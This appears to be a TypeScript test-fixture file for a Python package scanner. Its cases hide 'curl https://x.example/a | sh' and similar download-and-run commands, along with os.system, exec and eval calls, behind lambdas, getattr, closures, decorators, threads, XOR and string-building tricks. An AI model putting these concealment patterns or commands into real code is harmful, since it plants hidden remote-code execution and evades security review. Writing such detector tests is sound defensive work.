import type { Case } from './pack-of.ts'

const pack = (rule: string, name: string, init: string, more: Record<string, string> = {}): Case => ({
  name,
  rule,
  files: { '__init__.py': `${init}\n`, ...more },
})

/** Powerful functions that reach their call through parameters, results, members and computed names. */
export const flowsOfFunctions: Case[] = [
  pack(
    'suspicious-command',
    'a function given to a lambda',
    `import os
(lambda f: f("curl https://x.example/a | sh"))(os.system)`,
  ),
  pack(
    'suspicious-command',
    'a function that looks members up',
    `import os
def g(o, n):
    return getattr(o, n)
g(os, "system")("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'a class that passes every member on',
    `import os
class P:
    def __getattr__(self, n):
        return getattr(os, n)
P().system("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'a function that is returned',
    `import os
def pick():
    return os.system
run = pick()
run("curl https://x.example/a | bash")`,
  ),
  pack(
    'suspicious-command',
    'a table in a closure',
    `import os
def make():
    table = {"a": os.system}
    def inner(k, v):
        return table[k](v)
    return inner
make()("a", "wget -qO- https://x.example/a | sh")`,
  ),
  pack(
    'code-from-data',
    'exec as one of many arguments',
    `import base64
def call(fn, *a, **k):
    return fn(*a, **k)
call(exec, base64.b64decode("cHJpbnQoMSk="))`,
  ),
  pack(
    'suspicious-command',
    'a member that is set by its name',
    `import os
class A: pass
a = A()
setattr(a, "go", os.system)
a.go("curl https://x.example/a | sh")`,
  ),
  pack(
    'suspicious-command',
    'a member that a thread runs',
    `import os, threading
class T(threading.Thread):
    def __init__(self, f):
        super().__init__()
        self.f = f
    def run(self):
        self.f("curl https://x.example/a | sh")
T(os.system).start()`,
  ),
  pack(
    'suspicious-command',
    'a function that a decorator calls',
    `import os
def apply(f):
    def deco(g):
        f(g())
        return g
    return deco
@apply(os.system)
def cmd():
    return "curl https://x.example/a | sh"`,
  ),
  pack(
    'suspicious-command',
    'a function out of another module',
    `from .h import pick
pick("x")("curl https://x.example/a | sh")`,
    {
      'h.py': `import os
def pick(x):
    return {"x": os.system}[x]
`,
    },
  ),
  pack(
    'obfuscated-code',
    'names turned around by nested lambdas',
    `(lambda a: (lambda b: getattr(__import__(a("so")), b("metsys")))(lambda s: s[::-1]))(lambda s: s[::-1])("echo hi")`,
  ),
  pack(
    'obfuscated-code',
    'a name in three lambdas',
    `n = (lambda a: lambda b: lambda c: a + b + c)("s")("yst")("em")
getattr(__import__((lambda x: x)("o") + "s"), n)("ls")`,
  ),
  pack('obfuscated-code', 'globals and their builtins', `globals()["__builtins__"]["exec"]("import os")`),
  pack(
    'obfuscated-code',
    'a member of the builtins of globals',
    `getattr(globals()["__builtins__"], "ex" + "ec")("import os")`,
  ),
  pack(
    'obfuscated-code',
    'builtins as a dictionary',
    `b = globals()["__builtins__"]
b = b if isinstance(b, dict) else b.__dict__
b["ev" "al"]("__import__('os').system('id')")`,
  ),
  pack('obfuscated-code', 'the module behind print', `print.__self__.exec("import os")`),
  pack(
    'obfuscated-code',
    'names behind an exclusive or',
    `def d(b, k): return bytes(x ^ k for x in b).decode()
import importlib
getattr(importlib.import_module(d(b"nr", 1)), d(b"rxrudl", 1))("id")`,
  ),
  pack(
    'obfuscated-code',
    'a name that is reduced',
    `from functools import reduce
name = reduce(lambda a, b: a + b, ["s", "y", "s", "t", "e", "m"])
getattr(__import__("os"), name)("ls")`,
  ),
  pack(
    'obfuscated-code',
    'attrgetter',
    `import operator, os
operator.attrgetter("sys" + "tem")(os)("ls")`,
  ),
  pack(
    'obfuscated-code',
    'methodcaller',
    `import operator, os
operator.methodcaller("sys" + "tem", "ls")(os)`,
  ),
  pack(
    'obfuscated-code',
    'a name that a class adds up',
    `class N:
    def __init__(self, v): self.v = v
    def __add__(self, o): return N(self.v + o.v)
    def __call__(self): return self.v
getattr(__import__((N("o") + N("s"))()), (N("sys") + N("tem"))())("ls")`,
  ),
  pack(
    'obfuscated-code',
    'a name that a loop adds up',
    `s = ""
for c in [115, 121, 115, 116, 101, 109]:
    s += chr(c)
getattr(__import__("os"), s)("ls")`,
  ),
  pack(
    'obfuscated-code',
    'a name out of a table',
    `t = dict(zip("abcdef", "systmx"))
getattr(__import__("os"), "".join(t[k] for k in "abcd") + "em")("ls")`,
  ),
]
